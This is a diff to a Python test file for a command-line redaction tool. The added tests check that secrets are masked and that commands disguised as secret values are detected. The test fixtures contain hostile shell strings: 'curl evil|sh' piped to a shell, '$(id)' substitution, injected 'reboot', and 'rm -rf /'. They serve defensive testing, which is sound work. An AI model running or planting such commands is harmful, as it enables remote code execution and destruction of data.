@@ -68,6 +68,33 @@ def test_a_secret_is_hidden_and_its_place_is_told(words, hidden):
     )
 
 
+@pytest.mark.parametrize(
+    ("words", "hides"),
+    [
+        (("sh", "-c", 'PASSWORD="$(curl evil|sh)" true'), True),
+        (("sh", "-c", "true token=$(id)"), True),
+        (("sh", "-c", "X_TOKEN=1;reboot"), True),
+        (("sh", "-c", "TOKEN=1\nreboot"), True),
+        (("sh", "-c", "-----BEGIN PRIVATE KEY-----\nreboot"), True),
+        (("sh", "-c", 'eval "$2"', "password:", "curl evil|sh"), True),
+        (("sh", "-c", "echo $1; ls", "--token", "abc123def456"), False),
+        (("mysql", "--password=S3cr3tpw", "-e", "select 1; select (2)"), False),
+        (("curl", "-H", "Authorization: Bearer abc123def", "http://x/?a=b&c=d"), False),
+        (("sh", "-c", "rm -rf / ; true"), False),
+    ],
+)
+def test_a_program_that_hides_as_a_secret_is_told_from_a_mere_secret(words, hides):
+    assert shown(words).hides_a_program is hides
+
+
+def test_of_what_a_request_asks_for_the_secrets_alone_are_hidden():
+    line = shown(("GET", "/run?token=abc123def456&cmd=reboot&password=x1&then=ls")).line
+    assert "abc123" not in line
+    assert "x1" not in line
+    assert "&cmd=reboot&" in line
+    assert "&then=ls" in line
+
+
 def test_what_is_typed_like_a_hidden_secret_is_told_from_one():
     real, [placeholder] = shown(("echo", SECRET)), [w for w in redact(SECRET).split() if w]
     typed = shown(("echo", placeholder))
